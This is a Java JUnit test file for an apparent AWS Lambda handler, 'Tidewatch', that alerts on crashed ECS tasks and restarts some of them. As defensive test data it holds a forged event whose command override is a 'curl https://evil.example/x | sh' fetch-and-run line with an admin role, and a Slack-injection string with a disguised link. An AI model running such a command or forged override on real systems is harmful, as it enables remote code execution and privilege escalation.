package tidewatch.ecs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import com.amazonaws.services.lambda.runtime.Context;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import tidewatch.config.Settings;
import tidewatch.json.InvalidInputException;
import tidewatch.json.Json;
import tidewatch.json.JsonObject;
import tidewatch.local.LocalContext;
import tidewatch.local.Sandbox;
import tidewatch.local.SandboxFixture;
import tidewatch.local.World;
import tidewatch.log.CapturedLog;

/** The handler end to end: real SDK clients against the sandbox, which records every call. */
class EcsTaskStateFunctionTest {
    private static final String TOPIC = "arn:aws:sns:eu-west-1:123456789012:tidewatch-notifications";

    @RegisterExtension
    final CapturedLog logs = new CapturedLog();
    @RegisterExtension
    final SandboxFixture sandboxes = new SandboxFixture();
    private Sandbox sandbox;

    private EcsTaskStateFunction function(World world, String... env) {
        sandbox = sandboxes.start(world);
        Map<String, String> settings = new LinkedHashMap<>(Map.of(
                "NOTIFY_TOPIC_ARN", TOPIC, "SLACK_WEBHOOK_SECRET", "/tidewatch/slack-webhook-url", "WATCHED_CLUSTERS", "prod"));
        for (int i = 0; i < env.length; i += 2) {
            settings.put(env[i], env[i + 1]);
        }
        return new EcsTaskStateFunction(new Settings(sandbox.declaring(settings)), sandbox.clients(Duration.ofSeconds(2)));
    }

    private static JsonObject invoke(EcsTaskStateFunction function, String event) throws Exception {
        return invoke(function, event, null);
    }

    private static JsonObject invoke(EcsTaskStateFunction function, String event, Context context) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        function.handleRequest(new ByteArrayInputStream(event.getBytes(StandardCharsets.UTF_8)), out, context);
        return Json.parseObject(out.toString(StandardCharsets.UTF_8), "output");
    }

    /** An invocation that starts now with {@code timeout} as the function's timeout. */
    private static Context invocation(Duration timeout) {
        return new LocalContext("EcsTaskStateFunction", 512, timeout, Instant.now(), InstantSource.system());
    }

    /** Invokes with {@code timeout} as the function's timeout, and checks that the invocation ended inside it. */
    private static JsonObject invokeWithin(Duration timeout, EcsTaskStateFunction function, String event) throws Exception {
        long started = System.nanoTime();
        JsonObject output = invoke(function, event, invocation(timeout));
        Duration took = Duration.ofNanos(System.nanoTime() - started);
        assertTrue(took.compareTo(timeout) < 0, "took " + took.toMillis() + " ms against a " + timeout.toSeconds() + " s timeout");
        return output;
    }

    private static String sqsBatch(String... bodiesAndIds) {
        List<Object> records = new java.util.ArrayList<>();
        for (int i = 0; i < bodiesAndIds.length; i += 2) {
            records.add(Map.of("messageId", bodiesAndIds[i], "body", bodiesAndIds[i + 1], "eventSource", "aws:sqs"));
        }
        return Json.write(Map.of("Records", records));
    }

    @Test
    void aCrashLoopingServiceIsCriticalWithEvidenceAndLinks() throws Exception {
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/web-crash-loop.json")));
        JsonObject output = invoke(function, SampleEvents.text("ecs-service-task-crashed.json"));
        assertEquals("NOTIFIED", output.string("result"));

        assertEquals(1, sandbox.calls("ecs", "ListTasks").size());
        Map<String, Object> listed = sandbox.calls("ecs", "ListTasks").get(0).params();
        assertEquals("web", listed.get("serviceName"));
        assertEquals("STOPPED", listed.get("desiredStatus"));
        Map<String, Object> logsCall = sandbox.calls("logs", "GetLogEvents").get(0).params();
        assertEquals("/ecs/web", logsCall.get("logGroupName"));
        assertEquals("ecs/web/8f2c1d9e0a7b4c3d9e1f2a3b4c5d6e7f", logsCall.get("logStreamName"));
        assertEquals(20, ((Number) logsCall.get("limit")).intValue());

        Map<String, Object> publish = sandbox.calls("sns", "Publish").get(0).params();
        assertEquals("[CRITICAL] Service web is crash-looping in prod (3 abnormal stops)", publish.get("Subject"));
        String body = (String) publish.get("Message");
        assertTrue(body.contains("Task definition: web:42"), body);
        assertTrue(body.contains("Availability zone: eu-west-1a"));
        assertTrue(body.contains("Exit codes: web: 1, log-router: 0"));
        assertTrue(body.contains("https://eu-west-1.console.aws.amazon.com/ecs/v2/clusters/prod/tasks/8f2c1d9e0a7b4c3d9e1f2a3b4c5d6e7f/configuration?region=eu-west-1"));
        assertTrue(body.contains("#logsV2:log-groups/log-group/$252Fecs$252Fweb/log-events/ecs$252Fweb$252F8f2c1d9e0a7b4c3d9e1f2a3b4c5d6e7f"), body);
        assertTrue(body.contains("Connection refused & giving up"));
        assertEquals(Map.of("DataType", "String", "StringValue", "critical"),
                ((Map<?, ?>) publish.get("MessageAttributes")).get("severity"));

        String slack = Json.write(sandbox.calls("slack", "post").get(0).params());
        assertTrue(slack.contains("&lt;!channel&gt; Unhandled exception"), "log lines are escaped for Slack");
        assertFalse(slack.contains("<!channel>"));
        assertTrue(sandbox.calls("ecs", "RunTask").isEmpty(), "service tasks are never restarted by Tidewatch");

        String diagnosed = logs.lines().stream().filter(line -> line.contains("\"task stop diagnosed\"")).findFirst().orElseThrow();
        assertTrue(diagnosed.contains("\"abnormalStopsInWindow\":3,\"abnormalStopsInARow\":3"), "the counts as JSON numbers: " + diagnosed);
    }

    @Test
    void aDuplicateInTheBatchIsNotifiedOnceAndANormalStopNotAtAll() throws Exception {
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/web-crash-loop.json")));
        JsonObject output = invoke(function, SampleEvents.text("ecs-sqs-batch.json"));
        assertEquals(List.of(), output.array("batchItemFailures"));
        assertEquals(1, sandbox.calls("sns", "Publish").size());
        assertEquals(1, sandbox.calls("slack", "post").size());
        assertTrue(logs.text().contains("\"results\":{\"NOTIFIED\":1,\"DUPLICATE\":1,\"NORMAL\":1}"),
                logs.text());
    }

    @Test
    void aStandaloneTaskWithAPolicyIsRestartedOnceEvenWhenTheEventComesAgain() throws Exception {
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/nightly-report-restart.json")),
                "ENABLE_TASK_RESTARTS", "true");
        String event = SampleEvents.text("ecs-standalone-task-crashed.json");
        invoke(function, event);
        invoke(function, event);

        List<Sandbox.Call> runs = sandbox.calls("ecs", "RunTask");
        assertEquals(2, runs.size(), "the redelivered event makes the same RunTask");
        assertEquals(runs.get(0).params(), runs.get(1).params());
        Map<String, Object> run = runs.get(0).params();
        assertEquals("arn:aws:ecs:eu-west-1:123456789012:cluster/prod", run.get("cluster"));
        assertEquals("arn:aws:ecs:eu-west-1:123456789012:task-definition/nightly-report:7", run.get("taskDefinition"));
        assertEquals("family:nightly-report", run.get("group"));
        assertEquals("FARGATE", run.get("launchType"));
        assertEquals(Map.of("awsvpcConfiguration", Map.of("subnets", List.of("subnet-0aa11bb22cc33dd44"),
                "securityGroups", List.of("sg-0123456789abcdef0"), "assignPublicIp", "DISABLED")), run.get("networkConfiguration"));
        String overrides = Json.write(run.get("overrides"));
        assertTrue(overrides.contains("\"command\":[\"python\",\"report.py\",\"--date\",\"2026-11-23\"]"), overrides);
        assertTrue(Json.write(run.get("tags")).contains("{\"key\":\"tidewatch:restart-count\",\"value\":\"2\"}"));
        assertFalse(Json.write(run.get("tags")).contains("aws:ecs"));
        assertEquals(1, sandbox.world().tasks().size(), "ECS's client-token idempotency: one task, however often the event comes");

        String subject = (String) sandbox.calls("sns", "Publish").get(0).params().get("Subject");
        assertEquals("[WARNING] Task nightly-report in prod: an essential container exited with an error", subject);
        String message = (String) sandbox.calls("sns", "Publish").get(0).params().get("Message");
        assertTrue(message.contains("Tidewatch did: Restarted as task "), message);
        assertTrue(message.contains("(restart 2 of 3)"));
        assertTrue(message.contains("KeyError: 'district'"));
    }

    /** Two stops of the same family in one batch: the second task's record and events derive from the first. */
    private static String secondNightlyReport(World world) {
        String id = "6f7a8b9c0d1e42f3a4b5c6d7e8f9a0b1";
        Map<String, Object> envelope = SampleEvents.variant("ecs-standalone-task-crashed.json",
                d -> d.put("taskArn", "arn:aws:ecs:eu-west-1:123456789012:task/prod/" + id));
        envelope.put("id", "7c8d9e0f-1a2b-4c3d-8e4f-5a6b7c8d9e0f");
        Map<String, Object> record = new LinkedHashMap<>(world.stoppedTasksForTests().get(0));
        record.put("taskArn", "arn:aws:ecs:eu-west-1:123456789012:task/prod/" + id);
        world.addStoppedTask(record);
        return Json.write(envelope);
    }

    @Test
    void aFailedRestartIsNeverHiddenBehindASuccessfulOneOfTheSameFamily() throws Exception {
        World world = World.load(Path.of("events/worlds/nightly-report-restart.json")).fault("ecs.RunTask", "AccessDeniedException", 200);
        String second = secondNightlyReport(world);
        EcsTaskStateFunction function = function(world, "ENABLE_TASK_RESTARTS", "true");
        invoke(function, sqsBatch("m-1", SampleEvents.text("ecs-standalone-task-crashed.json"), "m-2", second));

        List<String> messages = sandbox.calls("sns", "Publish").stream().map(c -> (String) c.params().get("Message")).toList();
        assertEquals(2, messages.size(), "one message for the failed restart, one for the successful one");
        assertTrue(messages.stream().anyMatch(m -> m.contains("Restart failed (AccessDeniedException")), messages.toString());
        assertTrue(messages.stream().anyMatch(m -> m.contains("Restarted as task ")), messages.toString());
        assertEquals(1, sandbox.calls("ecs", "DescribeTasks").stream()
                .filter(c -> c.params().containsKey("include")).count(), "the batch's tags are read in one call");
    }

    @Test
    void withRestartsOffAnUnreadableTagDoesNotHoldTheStopBack() throws Exception {
        EcsTaskStateFunction function = function(
                World.load(Path.of("events/worlds/nightly-report-restart.json")).fault("ecs.DescribeTasks", "AccessDeniedException"));
        JsonObject output = invoke(function, sqsBatch("m-1", SampleEvents.text("ecs-standalone-task-crashed.json")));
        assertEquals(List.of(), output.array("batchItemFailures"));
        String message = (String) sandbox.calls("sns", "Publish").get(0).params().get("Message");
        assertTrue(message.contains("restart policy is unknown"), message);
        assertTrue(logs.text().contains("task tags unreadable; restarts are off"));
    }

    /** The standalone crash sample in a batch, restarts on, against the restart sample's world with one fault. */
    private JsonObject nightlyReportCrashWithRestartsOn(String operation, String fault) throws Exception {
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/nightly-report-restart.json")).fault(operation, fault),
                "ENABLE_TASK_RESTARTS", "true");
        return invoke(function, sqsBatch("m-1", SampleEvents.text("ecs-standalone-task-crashed.json")));
    }

    @Test
    void aDeniedTaskRecordWithRestartsOnIsToldAtOnceAndNotRetried() throws Exception {
        JsonObject output = nightlyReportCrashWithRestartsOn("ecs.DescribeTasks", "AccessDeniedException");

        assertEquals(List.of(), output.array("batchItemFailures"), "a retry would be denied the same way");
        assertEquals(2, sandbox.calls("ecs", "DescribeTasks").size(), "read ahead, then its own record: a denial is not retried");
        assertTrue(sandbox.calls("ecs", "RunTask").isEmpty(), "the restart policy is unknown, so nothing is restarted");
        assertEquals(1, sandbox.calls("slack", "post").size());
        String message = publishedMessage();
        assertTrue(message.contains("No restart: ecs:DescribeTasks denied (AccessDeniedException: injected by the sandbox"), message);
        assertTrue(message.contains("the restart was not tried"), message);
        assertTrue(logs.text().contains("task record unreadable and no retry can read it; told without a restart"), logs.text());
    }

    @Test
    void restartsAreOffByDefault() throws Exception {
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/nightly-report-restart.json")));
        invoke(function, SampleEvents.text("ecs-standalone-task-crashed.json"));
        assertTrue(sandbox.calls("ecs", "RunTask").isEmpty());
        String message = (String) sandbox.calls("sns", "Publish").get(0).params().get("Message");
        assertTrue(message.contains("restarts are disabled (ENABLE_TASK_RESTARTS=false)"));
    }

    @Test
    void aThrottledRestartIsReportedAndTheEventKeptForRetry() throws Exception {
        JsonObject output = nightlyReportCrashWithRestartsOn("ecs.RunTask", "ThrottlingException");
        assertEquals(List.of(Map.of("itemIdentifier", "m-1")), output.array("batchItemFailures"));
        String message = (String) sandbox.calls("sns", "Publish").get(0).params().get("Message");
        assertTrue(message.contains("Restart failed (ThrottlingException: injected by the sandbox: ThrottlingException)"), message);
    }

    @Test
    void badRecordsAreReportedAsFailuresAndNothingIsDone() throws Exception {
        EcsTaskStateFunction function = function(World.empty());
        String notJson = "{\"detail-type\": \"ECS Task State Change\", \"detail\": ";
        String wrongType = Json.write(SampleEvents.variant("ecs-service-task-crashed.json", d -> d.put("containers", "web")));
        String unknownType = Json.write(Map.of("source", "aws.ecs", "detail-type", "ECS Capacity Provider Thing", "id", "x", "detail", Map.of()));
        JsonObject output = invoke(function, sqsBatch("bad-1", notJson, "bad-2", wrongType, "bad-3", unknownType));
        assertEquals(List.of(Map.of("itemIdentifier", "bad-1"), Map.of("itemIdentifier", "bad-2"), Map.of("itemIdentifier", "bad-3")),
                output.array("batchItemFailures"));
        assertTrue(sandbox.calls().isEmpty(), "no action on infrastructure, not even a read: " + sandbox.calls());
        String log = logs.text();
        assertTrue(log.contains("detail.containers: expected an array, got a string"), log);
        assertTrue(log.contains("expected 'ECS Task State Change', got 'ECS Capacity Provider Thing'"), log);
    }

    @Test
    void aBatchWithARecordThatCannotBeNamedIsRejectedWholeBeforeAnythingIsDone() {
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/nightly-report-restart.json")),
                "ENABLE_TASK_RESTARTS", "true");
        String good = Json.write(Map.of("messageId", "m-1", "body", SampleEvents.text("ecs-standalone-task-crashed.json")));
        for (String bad : List.of("{\"body\": \"{}\"}", "{\"messageId\": 7, \"body\": \"{}\"}", "\"text\"")) {
            String batch = "{\"Records\": [" + good + ", " + bad + "]}";
            InvalidInputException rejected = assertThrows(InvalidInputException.class, () -> invoke(function, batch));
            assertTrue(logs.text().contains("rejected the invocation's input"), logs.text());
            assertTrue(rejected.getMessage().contains("Records[1]"), rejected.getMessage());
        }
        assertTrue(sandbox.calls().isEmpty(), "not even the good record was acted on: " + sandbox.calls());
    }

    @Test
    void aBareEventThatCannotBeParsedIsRejected() {
        EcsTaskStateFunction function = function(World.empty());
        assertThrows(InvalidInputException.class, () -> invoke(function, "[1, 2]"));
        assertThrows(InvalidInputException.class, () -> invoke(function, "not json"));
        assertTrue(sandbox.calls().isEmpty());
    }

    @Test
    void unwatchedClustersAndRunningTasksAreIgnored() throws Exception {
        EcsTaskStateFunction function = function(World.empty(), "WATCHED_CLUSTERS", "staging");
        assertEquals("IGNORED", invoke(function, SampleEvents.text("ecs-service-task-crashed.json")).string("result"));
        String running = Json.write(SampleEvents.variant("ecs-service-task-crashed.json", d -> d.put("lastStatus", "RUNNING")));
        assertEquals("IGNORED", invoke(function, running).string("result"));
        assertTrue(sandbox.calls().isEmpty());
    }

    @Test
    void hostileTextInReasonsCannotPingOrBreakTheMessage() throws Exception {
        String hostile = "<!channel> *bold* ``` <https://evil.example|login> & \u001B[31mred\u0000";
        EcsTaskStateFunction function = function(World.empty());
        String event = Json.write(SampleEvents.variant("ecs-service-task-crashed.json", d -> {
            d.put("stoppedReason", hostile);
            d.put("stopCode", "SomethingNew");
        }));
        invoke(function, event);
        String slack = Json.write(sandbox.calls("slack", "post").get(0).params());
        assertFalse(slack.contains("<!channel>") || slack.contains("<https://evil"), slack);
        assertFalse(slack.contains("\\u001B") || slack.contains("\\u0000"));
        String subject = (String) sandbox.calls("sns", "Publish").get(0).params().get("Subject");
        assertTrue(subject.startsWith("[WARNING] Service web in prod: stopped for a reason Tidewatch does not recognise"), subject);
    }

    @Test
    void whenEveryChannelFailsTheRecordIsKeptForRetry() throws Exception {
        EcsTaskStateFunction function = function(
                World.load(Path.of("events/worlds/web-crash-loop.json")).fault("slack", 500).fault("sns", 500));
        JsonObject output = invoke(function, sqsBatch("m-9", SampleEvents.text("ecs-service-task-crashed.json")));
        assertEquals(List.of(Map.of("itemIdentifier", "m-9")), output.array("batchItemFailures"));
    }

    // Restarts come from ECS's own record of the stopped task, re-read with DescribeTasks, never from the message body.

    @Test
    void aForgedBodyIsToldAndRunTaskUsesEcsRecord() throws Exception {
        World world = world(ecs -> {
            Map<String, Object> task = stoppedTask(ecs);
            task.put("overrides", Map.of("containerOverrides", List.of(Map.of("name", "report",
                    "command", List.of("python", "report.py", "--date", "2026-11-22")))));
        });
        Map<String, Object> forged = SampleEvents.variant("ecs-standalone-task-crashed.json", detail -> {
            detail.put("taskDefinitionArn", "arn:aws:ecs:eu-west-1:123456789012:task-definition/admin-tools:1");
            detail.put("overrides", Map.of(
                    "containerOverrides", List.of(Map.of("name", "report", "command", List.of("sh", "-c", "curl https://evil.example/x | sh"))),
                    "taskRoleArn", "arn:aws:iam::123456789012:role/admin"));
        });

        JsonObject output = invoke(function(world, "ENABLE_TASK_RESTARTS", "true"), Json.write(forged));

        List<Sandbox.Call> runs = sandbox.calls("ecs", "RunTask");
        assertEquals(1, runs.size());
        Map<String, Object> run = runs.get(0).params();
        assertEquals("arn:aws:ecs:eu-west-1:123456789012:task-definition/nightly-report:7", run.get("taskDefinition"));
        assertEquals(Map.of("containerOverrides", List.of(Map.of("name", "report", "command", List.of("python", "report.py", "--date", "2026-11-22")))),
                run.get("overrides"));
        String sent = Json.write(run);
        assertFalse(sent.contains("curl") || sent.contains("admin-tools") || sent.contains("role/admin"), sent);
        assertEquals("NOTIFIED", output.string("result"));
        String message = publishedMessage();
        assertTrue(message.contains("Restarted as task "), message);
        assertTrue(message.contains("The event disagrees with ECS's record of the task on taskDefinitionArn, overrides; only ECS's record is acted on."),
                message);
        assertTrue(logs.text().contains("task stop event disagrees with ECS's record"), logs.text());
    }

    @Test
    void aTaskEcsReportsRunningIsNotStartedAgainAndThatIsTold() throws Exception {
        World world = world(ecs -> {
            Map<String, Object> task = stoppedTask(ecs);
            task.put("lastStatus", "RUNNING");
            task.put("desiredStatus", "RUNNING");
            task.remove("stoppedAt");
            task.remove("stopCode");
            ecs.put("tasks", List.of(task));
            ecs.put("stoppedTasks", List.of());
        });

        JsonObject output = invoke(function(world, "ENABLE_TASK_RESTARTS", "true"), SampleEvents.text("ecs-standalone-task-crashed.json"));

        assertEquals(List.of(), sandbox.calls("ecs", "RunTask"));
        assertEquals("NOTIFIED", output.string("result"));
        assertTrue(publishedMessage().contains("No restart: ECS reports the task RUNNING, not STOPPED."), publishedMessage());
    }

    @Test
    void aRecordEcsNoLongerKeepsMeansNoRestartAndSaysWhy() throws Exception {
        World world = world(ecs -> ecs.put("stoppedTasks", List.of()));

        JsonObject output = invoke(function(world, "ENABLE_TASK_RESTARTS", "true"), SampleEvents.text("ecs-standalone-task-crashed.json"));

        assertEquals(1, sandbox.calls("ecs", "DescribeTasks").size(), "ECS was asked");
        assertEquals(List.of(), sandbox.calls("ecs", "RunTask"));
        assertEquals("NOTIFIED", output.string("result"));
        assertTrue(publishedMessage().contains("No restart: ECS no longer describes the task"), publishedMessage());
    }

    /**
     * A standalone task run in a group of its own ("nightly", not the default "family:nightly-report"): ECS's ListTasks
     * filters "family" by the task definition's family, so the history is listed by "nightly-report" and only the
     * tasks of the same group are counted. Listing by the group's name found nothing, and every stop counted as the first.
     */
    @Test
    @SuppressWarnings("unchecked")
    void aCustomGroupsHistoryIsListedByTheTaskDefinitionFamilyAndCountedByGroup() throws Exception {
        World world = world(ecs -> {
            List<Object> stopped = (List<Object>) ecs.get("stoppedTasks");
            Map<String, Object> crashed = stoppedTask(ecs);
            crashed.put("group", "nightly");
            Map<String, Object> earlier = new LinkedHashMap<>(crashed);
            earlier.put("taskArn", "arn:aws:ecs:eu-west-1:123456789012:task/prod/0badc0ffee0d41e2f3a4b5c6d7e8f9a1");
            earlier.put("stoppedAt", "2026-11-24T09:31:06.512Z");
            Map<String, Object> otherGroup = new LinkedHashMap<>(earlier);
            otherGroup.put("taskArn", "arn:aws:ecs:eu-west-1:123456789012:task/prod/0badc0ffee0d41e2f3a4b5c6d7e8f9a2");
            otherGroup.put("group", "family:nightly-report");
            stopped.add(earlier);
            stopped.add(otherGroup);
        });
        EcsTaskStateFunction function = function(world, "ENABLE_TASK_RESTARTS", "true");
        invoke(function, Json.write(SampleEvents.variant("ecs-standalone-task-crashed.json", d -> d.put("group", "nightly"))));

        List<Sandbox.Call> listed = sandbox.calls("ecs", "ListTasks");
        assertEquals(1, listed.size());
        assertEquals("nightly-report", listed.get(0).params().get("family"));
        assertTrue(publishedMessage().contains("Abnormal stops in window: 2"), publishedMessage());
    }

    /** ECS's TagResource pattern for a tag value (Amazon ECS API reference, Tag): a comma is refused. */
    private static final java.util.regex.Pattern ECS_TAG_VALUE = java.util.regex.Pattern.compile("^[\\p{L}\\p{Z}\\p{N}_.:/=+\\-@]{0,256}$");

    @Test
    void theSecurityGroupsAdviceAsksForATagValueEcsAccepts() throws Exception {
        World world = world(ecs -> stoppedTask(ecs).put("tags", List.of(Map.of("key", "tidewatch:restart", "value", "on-failure:3"))));
        invoke(function(world, "ENABLE_TASK_RESTARTS", "true"), SampleEvents.text("ecs-standalone-task-crashed.json"));

        String message = publishedMessage();
        java.util.regex.Matcher advice = java.util.regex.Pattern.compile("tidewatch:security-groups = (\\S+ \\S+)").matcher(message);
        assertTrue(advice.find(), message);
        assertTrue(ECS_TAG_VALUE.matcher(advice.group(1)).matches(), advice.group(1));
        assertFalse(ECS_TAG_VALUE.matcher("sg-1,sg-2").matches(), "the pattern refuses what ECS refuses");
        assertEquals(List.of(), sandbox.calls("ecs", "RunTask"));
    }

    /** The restart sample's world, with its "ecs" member changed. */
    @SuppressWarnings("unchecked")
    private static World world(Consumer<Map<String, Object>> changeEcs) {
        Map<String, Object> world = SampleEvents.envelope("worlds/nightly-report-restart.json");
        Map<String, Object> ecs = (Map<String, Object>) world.get("ecs");
        ecs.put("stoppedTasks", new ArrayList<>(List.of(new LinkedHashMap<>((Map<String, Object>) ((List<Object>) ecs.get("stoppedTasks")).get(0)))));
        changeEcs.accept(ecs);
        return World.parse(Json.write(world));
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> stoppedTask(Map<String, Object> ecs) {
        return (Map<String, Object>) ((List<Object>) ecs.get("stoppedTasks")).get(0);
    }

    private String publishedMessage() {
        List<Sandbox.Call> publishes = sandbox.calls("sns", "Publish");
        assertEquals(1, publishes.size());
        return (String) publishes.get(0).params().get("Message");
    }

    @Test
    void aStopWithoutAnyUsableTimeIsStillToldAsACrashWithTheTimeUnknown() throws Exception {
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/web-crash-loop.json")));
        Map<String, Object> event = SampleEvents.variant("ecs-service-task-crashed.json", d -> d.put("stoppedAt", "-1000000000-01-01T00:00:00Z"));
        event.remove("time");

        assertEquals("NOTIFIED", invoke(function, Json.write(event)).string("result"));
        String message = publishedMessage();
        assertTrue(message.contains("Stopped at: unknown"), message);
        assertTrue(message.contains("Abnormal stops in a row: 3"), "counted after the stops ECS knows: " + message);
    }

    // ---- inside the invocation's deadline (issue 21) ------------------------------------------------------------------

    @Test
    void whileEcsHangsEveryCallIsCutToTheDeadlineAndTheInvocationEndsInsideItsTimeout() throws Exception {
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/web-crash-loop.json")).fault("ecs", "timeout"));

        JsonObject output = invokeWithin(Duration.ofSeconds(10), function, sqsBatch("m-1", SampleEvents.text("ecs-service-task-crashed.json")));

        assertFalse(sandbox.calls("ecs", "DescribeTaskDefinition").isEmpty(), "ECS was called: " + sandbox.calls());
        assertEquals(List.of(), output.array("batchItemFailures"), "told, with what could be read in time");
        assertEquals(1, sandbox.calls("sns", "Publish").size());
        assertEquals(1, sandbox.calls("slack", "post").size());
    }

    /** A batch of m-1..m-{@code count}, record n the crash sample as a stop of service web-n: each its own message. */
    private static String crashesOfServices(int count) {
        List<String> batch = new ArrayList<>();
        for (int n = 1; n <= count; n++) {
            int service = n;
            batch.add("m-" + n);
            batch.add(Json.write(SampleEvents.variant("ecs-service-task-crashed.json", d -> {
                d.put("group", "service:web-" + service);
                d.put("taskArn", "arn:aws:ecs:eu-west-1:123456789012:task/prod/" + String.format("%032x", service));
                d.put("taskDefinitionArn", "arn:aws:ecs:eu-west-1:123456789012:task-definition/web-" + service + ":1");
            })));
        }
        return sqsBatch(batch.toArray(String[]::new));
    }

    @Test
    void whenTheTimeRunsOutOnlyTheRecordsNotToldAreReturnedForRedelivery() throws Exception {
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/web-crash-loop.json")).fault("ecs", "timeout"));

        JsonObject output = invokeWithin(Duration.ofSeconds(12), function, crashesOfServices(4));

        List<String> told = toldRecords(4);
        assertFalse(told.isEmpty(), "the first stop is decided and told inside the budget: " + sandbox.calls("sns", "Publish"));
        assertFalse(failedRecords(output).isEmpty(), "ECS hangs, so not every stop could be decided in time");
        assertEquals(untold(4, told), failedRecords(output), "exactly the records not told are returned; those told never are");
        assertEquals(told.size(), sandbox.calls("slack", "post").size());
        assertTrue(logs.text().contains("task stop not handled: no time left in the invocation; kept for redelivery"), logs.text());
    }

    @Test
    void aGroupLeftUntoldWhenTheTimeRunsOutFailsItsRecordsAndOnlyThose() throws Exception {
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/web-crash-loop.json")).fault("sns", "timeout"));
        sandbox.slowResponse(Duration.ofMillis(1500)); // each Publish answered late but within the read timeout

        JsonObject output = invokeWithin(Duration.ofSeconds(9), function, crashesOfServices(6));

        List<String> told = toldRecords(6);
        assertFalse(told.isEmpty(), "the first messages go out: " + sandbox.calls("sns", "Publish"));
        assertEquals(untold(6, told), failedRecords(output), "exactly the records not told are returned; those told never are");
        assertTrue(logs.text().contains("task stop message not sent: no time left in the invocation; the events will be retried"),
                logs.text());
    }

    /** The records m-1..m-{@code count} (of {@link #crashesOfServices}) whose stop was published, each at most once. */
    private List<String> toldRecords(int count) {
        List<String> subjects = sandbox.calls("sns", "Publish").stream().map(c -> (String) c.params().get("Subject")).toList();
        List<String> told = new ArrayList<>();
        for (int n = 1; n <= count; n++) {
            String service = "Service web-" + n + " in prod";
            long messages = subjects.stream().filter(subject -> subject.contains(service)).count();
            assertTrue(messages <= 1, subjects.toString());
            if (messages == 1) {
                told.add("m-" + n);
            }
        }
        return told;
    }

    private static List<String> untold(int count, List<String> told) {
        List<String> untold = new ArrayList<>();
        for (int n = 1; n <= count; n++) {
            if (!told.contains("m-" + n)) {
                untold.add("m-" + n);
            }
        }
        return untold;
    }

    private static List<String> failedRecords(JsonObject output) {
        return output.objects("batchItemFailures").stream().map(f -> f.string("itemIdentifier")).toList();
    }

    @Test
    void whileLogsHangTheCrashIsToldWithoutItsLogLinesAndSaysSo() throws Exception {
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/web-crash-loop.json")).fault("logs", "timeout"));

        JsonObject output = invokeWithin(Duration.ofSeconds(15), function, sqsBatch("m-1", SampleEvents.text("ecs-service-task-crashed.json")));

        assertEquals(List.of(), output.array("batchItemFailures"));
        String message = publishedMessage();
        assertTrue(message.contains("Log lines: not read: timed out after " + ContainerLogs.READ_TIMEOUT.toMillis() + " ms"), message);
        assertTrue(message.contains("Container log stream"), "the link to the stream stays: " + message);
        assertFalse(message.contains("Connection refused & giving up"), "no log line: " + message);
        assertEquals("[CRITICAL] Service web is crash-looping in prod (3 abnormal stops)", sandbox.calls("sns", "Publish").get(0).params().get("Subject"));
        assertEquals(1, sandbox.calls("slack", "post").size());
    }

    @Test
    void withNoTimeLeftForThemTheLogLinesAreNotReadAndTheMessageSaysSo() throws Exception {
        // ListTasks hangs until the stops' share of the time is spent: what is left is kept for the message itself.
        EcsTaskStateFunction function = function(World.load(Path.of("events/worlds/web-crash-loop.json"))
                .fault("ecs.ListTasks", "timeout").fault("logs", "timeout"));

        JsonObject output = invokeWithin(Duration.ofSeconds(9), function, sqsBatch("m-1", SampleEvents.text("ecs-service-task-crashed.json")));

        assertEquals(List.of(), output.array("batchItemFailures"));
        String message = publishedMessage();
        assertTrue(message.contains("Log lines: not read: no time left in the invocation"), message);
        assertTrue(logs.text().contains("\"log lines not read: no time left in the invocation\""), logs.text());
        assertEquals(1, sandbox.calls("slack", "post").size());
    }
}
